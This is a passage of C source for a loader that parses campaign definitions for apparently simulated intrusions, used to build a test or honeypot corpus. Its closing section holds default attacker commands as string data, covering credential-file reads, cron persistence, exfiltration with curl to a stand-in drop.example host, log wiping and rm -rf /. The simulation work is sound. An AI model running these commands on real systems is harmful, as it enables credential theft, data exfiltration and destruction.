        s_charge(ld, node, &ld->n_obs, (uint64_t)n, DSL_MAX_OBSERVATIONS, what, "observations");
    if (rc == 0) {
        ld->corpus->noise_scanners += n;
    }
    return rc;
}

static int
s_corpus(loader_t *ld, const ydoc_node_t *node)
{
    if (ydoc_type(node) != YDOC_MAP) {
        return s_type_error(ld, node, "'corpus'", "a mapping");
    }
    const ydoc_node_t *seq = NULL;
    int rc = s_opt_seq(ld, node, "campaigns", "corpus", &seq);
    for (size_t i = 0; rc == 0 && seq != NULL && i < ydoc_len(seq); i++) {
        const ydoc_node_t *item = ydoc_seq_at(seq, i);
        char what[S_WHAT];
        snprintf(what, sizeof what, "corpus 'campaigns' item %zu", i);
        if (ydoc_type(item) != YDOC_MAP) {
            return s_type_error(ld, item, what, "a mapping");
        }
        const ydoc_node_t *c = ydoc_map_get(item, "campaign");
        if (c == NULL) {
            return s_fail(ld, item, "%s: missing top-level 'campaign' key", what);
        }
        rc = s_campaign(ld, c);
    }
    const ydoc_node_t *noise = NULL;
    if (rc == 0) {
        rc = s_opt_map(ld, node, "noise", "corpus", &noise);
    }
    if (rc == 0 && noise != NULL) {
        int64_t n = 0;
        rc = s_opt_int(ld, noise, "scanner_count", "noise", 0, 0, DSL_MAX_NOISE, &n);
        const ydoc_node_t *at = s_opt(noise, "scanner_count");
        if (rc == 0 && at != NULL) {
            rc = s_add_noise(ld, at, "noise 'scanner_count'", n);
        }
    }
    return rc;
}

/* ----------------------------------------------------------------------------------------
   Files and includes */

/*  The directory part of path ("." when there is none), as a new string. */
static char *
s_dirname(const char *path)
{
    const char *slash = strrchr(path, '/');
    if (slash == NULL) {
        return xstrdup(".");
    }
    if (slash == path) {
        return xstrdup("/");
    }
    return xstrndup(path, (size_t)(slash - path));
}

/*  rel resolved against dir, as a new string (rel itself when absolute or dir is "."). */
static char *
s_join(const char *dir, const char *rel)
{
    if (rel[0] == '/' || dir == NULL || dir[0] == '\0' || strcmp(dir, ".") == 0) {
        return xstrdup(rel);
    }
    size_t n = strlen(dir);
    return xasprintf("%s%s%s", dir, dir[n - 1] == '/' ? "" : "/", rel);
}

/*  Reads a whole file. Returns 0, -errno, or CADRE_ELIMIT for a file that is too large. */
static int
s_read_file(const char *path, char **buf_out, size_t *len_out)
{
    FILE *f = fopen(path, "rb");
    if (f == NULL) {
        return -errno;
    }
    size_t cap = 0;
    size_t len = 0;
    char *buf = NULL;
    int rc = 0;
    for (;;) {
        xgrow(&buf, &cap, len + 4096);
        size_t got = fread(buf + len, 1, cap - len, f);
        len += got;
        if (len > DSL_MAX_FILE_BYTES) {
            rc = CADRE_ELIMIT;
            break;
        }
        if (got == 0) {
            if (ferror(f)) {
                rc = errno ? -errno : -EIO;
            }
            break;
        }
    }
    fclose(f);
    if (rc != 0) {
        free(buf);
        return rc;
    }
    *buf_out = buf;
    *len_out = len;
    return 0;
}

/*  Registers a file name with the corpus and returns the corpus' copy. */
static const char *
s_add_file(loader_t *ld, const char *name)
{
    dsl_corpus_t *c = ld->corpus;
    for (size_t i = 0; i < c->n_files; i++) {
        if (strcmp(c->files[i], name) == 0) {
            return c->files[i];
        }
    }
    xgrow(&c->files, &ld->cap_files, c->n_files + 1);
    c->files[c->n_files] = xstrdup(name);
    return c->files[c->n_files++];
}

static int s_load_path(loader_t *ld, const char *path, const ydoc_node_t *from, size_t index);

static int
s_includes(loader_t *ld, const ydoc_node_t *root, const ydoc_node_t *list, const char *dir)
{
    if (ydoc_type(list) != YDOC_SEQ) {
        return s_type_error(ld, list, "'include_fixtures'", "a sequence");
    }
    for (size_t i = 0; i < ydoc_len(list); i++) {
        char what[S_WHAT];
        snprintf(what, sizeof what, "include_fixtures item %zu", i);
        char *rel = NULL;
        int rc = s_text(ld, ydoc_seq_at(list, i), what, 4096, true, &rel);
        if (rc != 0) {
            return rc;
        }
        char *path = s_join(dir, rel);
        free(rel);
        rc = s_load_path(ld, path, ydoc_seq_at(list, i), i);
        free(path);
        if (rc != 0) {
            return rc;
        }
    }
    int64_t extra = 0;
    int rc = s_opt_int(ld, root, "extra_noise_scanners", "document", 0, 0, DSL_MAX_NOISE, &extra);
    const ydoc_node_t *at = s_opt(root, "extra_noise_scanners");
    if (rc == 0 && at != NULL) {
        rc = s_add_noise(ld, at, "document 'extra_noise_scanners'", extra);
    }
    return rc;
}

/*  Loads one document (any of the three shapes) into the corpus. dir resolves includes. */
static int
s_load_doc(loader_t *ld, const char *buf, size_t len, const char *dir)
{
    ydoc_t *doc = ydoc_parse(buf, len, ld->file, ld->err, ld->errlen);
    if (doc == NULL) {
        return CADRE_EDSL;
    }
    const ydoc_node_t *root = ydoc_root(doc);
    int rc = 0;
    if (ydoc_type(root) != YDOC_MAP) {
        char desc[96];
        s_describe(root, desc, sizeof desc);
        rc = s_fail(ld, root, "the document must be a mapping (did not parse to a mapping: %s)",
                    desc);
        ydoc_destroy(&doc);
        return rc;
    }
    const ydoc_node_t *inc = ydoc_map_get(root, "include_fixtures");
    const ydoc_node_t *corpus = ydoc_map_get(root, "corpus");
    const ydoc_node_t *campaign = ydoc_map_get(root, "campaign");
    if (inc != NULL) {
        if (corpus != NULL || campaign != NULL) {
            s_warn(ld, root, "top-level '%s' ignored: 'include_fixtures' takes precedence",
                   corpus != NULL ? "corpus" : "campaign");
        }
        rc = s_includes(ld, root, inc, dir);
    } else if (corpus != NULL) {
        if (campaign != NULL) {
            s_warn(ld, root, "top-level 'campaign' ignored: 'corpus' takes precedence");
        }
        rc = s_corpus(ld, corpus);
    } else if (campaign != NULL) {
        rc = s_campaign(ld, campaign);
    } else {
        rc = s_fail(ld, root,
                    "missing top-level 'campaign' key (expected 'campaign', 'corpus' or "
                    "'include_fixtures')");
    }
    ydoc_destroy(&doc);
    return rc;
}

/*  Writes "file: message" (no position) for the top-level file, or a marked message on the
    include_fixtures item that named the file. */
static int
s_file_error(loader_t *ld, const ydoc_node_t *from, size_t index, const char *path, int rc,
             const char *what)
{
    if (from != NULL) {
        return s_fail_rc(ld, from, rc, "include_fixtures item %zu: %s '%s': %s", index, what, path,
                         cadre_strerror(rc));
    }
    if (ld->err != NULL && ld->errlen > 0) {
        snprintf(ld->err, ld->errlen, "%s: %s: %s", path, what, cadre_strerror(rc));
    }
    return rc;
}

/*  Loads the file at path, which the include_fixtures item `from` (index) named, or which is
    the top-level file when from is NULL. */
static int
s_load_path(loader_t *ld, const char *path, const ydoc_node_t *from, size_t index)
{
    struct stat st;
    if (stat(path, &st) != 0) {
        return s_file_error(ld, from, index, path, -errno, "cannot open");
    }
    for (size_t i = 0; i < ld->depth; i++) {
        if (ld->chain[i].dev == st.st_dev && ld->chain[i].ino == st.st_ino) {
            /* Only an included file can close a cycle, so from is set here. */
            assert(from != NULL);
            char chain[1024] = "";
            size_t used = 0;
            for (size_t k = i; k < ld->depth && used < sizeof chain; k++) {
                int n = snprintf(chain + used, sizeof chain - used, "%s -> ", ld->chain[k].name);
                used += n > 0 ? (size_t)n : 0;
            }
            return s_fail(ld, from, "include_fixtures item %zu: include cycle: %s%s", index, chain,
                          path);
        }
    }
    if (ld->depth >= DSL_MAX_INCLUDE_DEPTH) {
        assert(from != NULL);
        return s_fail(ld, from, "include_fixtures item %zu: includes nested deeper than %d", index,
                      DSL_MAX_INCLUDE_DEPTH);
    }
    if (ld->n_loaded >= DSL_MAX_FILES_LOADED) {
        assert(from != NULL);
        return s_fail(ld, from,
                      "include_fixtures item %zu: the corpus would exceed its limit of %d files "
                      "loaded (a file counts each time it is included)",
                      index, DSL_MAX_FILES_LOADED);
    }
    ld->n_loaded++;
    char *buf = NULL;
    size_t len = 0;
    int rc = s_read_file(path, &buf, &len);
    if (rc != 0) {
        return s_file_error(ld, from, index, path, rc, "cannot read");
    }
    const char *name = s_add_file(ld, path);
    xgrow(&ld->chain, &ld->cap_chain, ld->depth + 1);
    ld->chain[ld->depth++] = (file_id_t){.dev = st.st_dev, .ino = st.st_ino, .name = name};
    const char *saved = ld->file;
    ld->file = name;
    char *dir = s_dirname(path);
    rc = s_load_doc(ld, buf, len, dir);
    free(dir);
    ld->file = saved;
    ld->depth--;
    free(buf);
    return rc;
}

/* ----------------------------------------------------------------------------------------
   Public API */

static void
s_loader_init(loader_t *ld, char *err, size_t errlen)
{
    memset(ld, 0, sizeof *ld);
    ld->corpus = xcalloc(1, sizeof *ld->corpus);
    ld->err = err;
    ld->errlen = errlen;
    if (err != NULL && errlen > 0) {
        err[0] = '\0';
    }
}

/*  Hands the corpus over on success, frees it on failure, and frees the loader. */
static int
s_loader_finish(loader_t *ld, int rc, dsl_corpus_t **out)
{
    free(ld->chain);
    if (rc != 0) {
        dsl_corpus_destroy(&ld->corpus);
        return rc;
    }
    *out = ld->corpus;
    return 0;
}

int
dsl_load_file(const char *path, dsl_corpus_t **out, char *err, size_t errlen)
{
    assert(path != NULL && out != NULL);
    loader_t ld;
    s_loader_init(&ld, err, errlen);
    int rc = s_load_path(&ld, path, NULL, 0);
    return s_loader_finish(&ld, rc, out);
}

int
dsl_load_buffer(const char *buf, size_t len, const char *name, const char *base_dir,
                dsl_corpus_t **out, char *err, size_t errlen)
{
    assert((buf != NULL || len == 0) && out != NULL);
    loader_t ld;
    s_loader_init(&ld, err, errlen);
    ld.file = s_add_file(&ld, name != NULL ? name : "<buffer>");
    int rc = s_load_doc(&ld, buf, len, base_dir != NULL ? base_dir : ".");
    return s_loader_finish(&ld, rc, out);
}

static void
s_phase_clear(dsl_phase_t *p)
{
    for (size_t i = 0; i < p->n_commands; i++) {
        free(p->commands[i]);
    }
    free(p->commands);
    for (size_t i = 0; i < p->n_creds; i++) {
        free(p->creds[i].user);
        free(p->creds[i].pass);
    }
    free(p->creds);
    free(p->c2);
    free(p->payload_hash);
}

static void
s_campaign_clear(dsl_campaign_t *c)
{
    for (size_t i = 0; i < c->n_actors; i++) {
        dsl_actor_t *a = &c->actors[i];
        free(a->id);
        free(a->rotation_asns);
        free(a->ja3);
        free(a->hassh);
        free(a->hours);
        free(a->active_days);
    }
    free(c->actors);
    for (size_t i = 0; i < c->n_phases; i++) {
        s_phase_clear(&c->phases[i]);
    }
    free(c->phases);
    free(c->pauses);
    free(c->id);
}

void
dsl_corpus_destroy(dsl_corpus_t **self_p)
{
    assert(self_p != NULL);
    dsl_corpus_t *self = *self_p;
    if (self == NULL) {
        return;
    }
    for (size_t i = 0; i < self->n_campaigns; i++) {
        s_campaign_clear(&self->campaigns[i]);
    }
    free(self->campaigns);
    for (size_t i = 0; i < self->n_warnings; i++) {
        free(self->warnings[i]);
    }
    free(self->warnings);
    for (size_t i = 0; i < self->n_files; i++) {
        free(self->files[i]);
    }
    free(self->files);
    free(self);
    *self_p = NULL;
}

/* ----------------------------------------------------------------------------------------
   Default commands (R§8.2, byte for byte) */

static const char *const s_cmd_discovery[] = {"whoami",   "id",     "uname -a",
                                              "ip route", "arp -a", "cat /etc/passwd"};
static const char *const s_cmd_credential_access[] = {"cat /etc/shadow", "find / -name id_rsa",
                                                      "cat ~/.ssh/known_hosts"};
static const char *const s_cmd_persistence[] = {
    "crontab -l", "echo '* * * * * /tmp/.x' | crontab -", "cat ~/.ssh/authorized_keys"};
static const char *const s_cmd_lateral_movement[] = {"ssh -i /tmp/.k root@10.0.0.5",
                                                     "scp /tmp/.x root@10.0.0.5:/tmp/"};
static const char *const s_cmd_collection[] = {"tar czf /tmp/loot.tgz /var/lib/mysql /home"};
static const char *const s_cmd_exfiltration[] = {"curl -T /tmp/loot.tgz https://drop.example/"};
static const char *const s_cmd_execution[] = {"./payload"};
static const char *const s_cmd_privilege_escalation[] = {"sudo -l",
                                                         "find / -perm -u=s 2>/dev/null"};
static const char *const s_cmd_defense_evasion[] = {"history -c", "rm -rf /var/log/wtmp"};
static const char *const s_cmd_impact[] = {"rm -rf /"};

#define S_COMMANDS(array)                                                                          \
    do {                                                                                           \
        *n = sizeof(array) / sizeof((array)[0]);                                                   \
        return (array);                                                                            \
    } while (0)

const char *const *
dsl_default_commands(ukc_phase_t phase, size_t *n)
{
    assert(n != NULL);
    switch (phase) {
    case UKC_DISCOVERY:
        S_COMMANDS(s_cmd_discovery);
    case UKC_CREDENTIAL_ACCESS:
        S_COMMANDS(s_cmd_credential_access);
    case UKC_PERSISTENCE:
        S_COMMANDS(s_cmd_persistence);
    case UKC_LATERAL_MOVEMENT:
        S_COMMANDS(s_cmd_lateral_movement);
    case UKC_COLLECTION:
        S_COMMANDS(s_cmd_collection);
    case UKC_EXFILTRATION:
        S_COMMANDS(s_cmd_exfiltration);
    case UKC_EXECUTION:
        S_COMMANDS(s_cmd_execution);
    case UKC_PRIVILEGE_ESCALATION:
        S_COMMANDS(s_cmd_privilege_escalation);
    case UKC_DEFENSE_EVASION:
        S_COMMANDS(s_cmd_defense_evasion);
    case UKC_IMPACT:
        S_COMMANDS(s_cmd_impact);
    default:
        *n = 0;
        return NULL;
    }
}
